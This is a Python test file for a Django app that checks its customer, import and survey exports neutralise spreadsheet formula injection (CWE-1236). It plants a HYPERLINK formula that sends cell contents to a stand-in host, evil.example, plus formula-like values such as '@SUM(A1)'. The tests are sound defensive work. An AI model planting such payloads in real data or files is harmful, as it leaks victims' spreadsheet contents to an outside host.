"""No export turns a customer's or a respondent's text into a live formula (CWE-1236).

Text planted where anyone can type it (a customer's name, an imported row, a public
survey answer, a questionnaire's label) is fed through every export we write, and the
files are opened as a spreadsheet program would. A house rule keeps future exports on
the one helper that makes cells inert.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pytest

from manyi.analytics.tests.test_spreadsheet import DANGEROUS, formula_elements
from manyi.analytics.tests.test_xlsform import workbook
from manyi.customers import actions as customer_actions
from manyi.customers.importer import import_file
from manyi.org.actions import SYSTEM
from manyi.surveys import actions as survey_actions

ROOT = Path(__file__).resolve().parents[3]
PLANTED = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _assert_inert_xlsx(data: bytes, *expected: str) -> None:
    assert formula_elements(data) == 0
    book = openpyxl.load_workbook(io.BytesIO(data))
    seen = {
        cell.value: cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in expected:
        assert text in seen, text
        assert seen[text].data_type == "s" and seen[text].quotePrefix


@pytest.mark.django_db
def test_customer_names_and_imported_rows_export_as_text(org, login):
    planted = [p for p in DANGEROUS if "\r" not in p and "\n" not in p]
    for n, name in enumerate(planted):
        customer_actions.create_customer(SYSTEM, branch=org.a1, name=name, external_key=f"X{n}")
    csv_file = "客户编号,姓名,手机,网点\r\nT1,\t=1+1,13800138000,A1\r\nT2,@SUM(A1),99,A1\r\n"
    result = import_file(SYSTEM, csv_file.encode("utf-8"), filename="客户.csv")
    assert result.created == 1  # T2's phone is refused: its row is in the report
    export = login(org.analyst).get("/customers/export.xlsx")
    assert export.status_code == 200
    from manyi.customers.models import Customer

    stored = list(Customer.objects.values_list("name", flat=True))
    assert "=1+1" in stored  # the import trimmed the tab: the name is still text below
    _assert_inert_xlsx(_body(export), *stored)
    report = list(csv.reader(io.StringIO(result.report_csv())))
    assert all(not field.startswith(("=", "+", "-", "@")) for row in report for field in row)


@pytest.mark.django_db
def test_public_survey_answers_export_as_text(org, api, tmp_path):
    path = workbook(tmp_path / "after_sales.xlsx")
    version, _ = survey_actions.import_xlsform(
        SYSTEM, content=path.read_bytes(), file_name=path.name
    )
    for n, text in enumerate(DANGEROUS):
        _link, token = survey_actions.create_link(SYSTEM, version.questionnaire)
        answers = {"visited": "no", "why_not": text}
        survey_actions.submit(token, answers, submission_key=f"inert-{n:04d}")
    client = api(org.analyst)
    for labels in ("", "?labels=1"):
        text = _body(client.get(f"/surveys/questionnaires/after_sales/responses.csv{labels}"))
        rows = list(csv.reader(io.StringIO(text.decode("utf-8-sig"))))
        answers = [row[rows[0].index("why_not")] for row in rows[1:]]
        assert sorted(answers) == sorted("'" + t for t in DANGEROUS)
        xlsx = _body(client.get(f"/surveys/questionnaires/after_sales/responses.xlsx{labels}"))
        _assert_inert_xlsx(xlsx, PLANTED, "@SUM(A1:A2)")


@pytest.mark.django_db
def test_a_questionnaire_downloaded_as_xlsform_keeps_its_labels_as_text(org, login, tmp_path):
    path = workbook(tmp_path / "after_sales.xlsx")
    version, _ = survey_actions.import_xlsform(
        SYSTEM, content=path.read_bytes(), file_name=path.name
    )
    definition = version.definition
    definition["questions"][1]["labels"]["zh"] = PLANTED
    survey_actions.edit_questionnaire(org.manager, version.questionnaire, definition)
    download = login(org.analyst).get("/surveys/after_sales/edit/xlsform/")
    _assert_inert_xlsx(_body(download), PLANTED)


WRITERS = re.compile(
    r"\bWorkbook\(|csv\.writer\(|DictWriter\(|\.to_csv\(|\.to_excel\(|xlsxwriter|ExcelWriter\("
)


def test_every_export_goes_through_the_one_helper():
    """A house rule: only manyi/analytics/spreadsheet.py creates Excel or CSV writers."""
    offenders = []
    for source in sorted((ROOT / "manyi").rglob("*.py")):
        relative = source.relative_to(ROOT).as_posix()
        if "/tests/" in relative or relative == "manyi/analytics/spreadsheet.py":
            continue
        for number, line in enumerate(source.read_text(encoding="utf-8").splitlines(), 1):
            code = line.split("#", 1)[0]
            if WRITERS.search(code) and not code.lstrip().startswith(('"', "'")):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert offenders == []
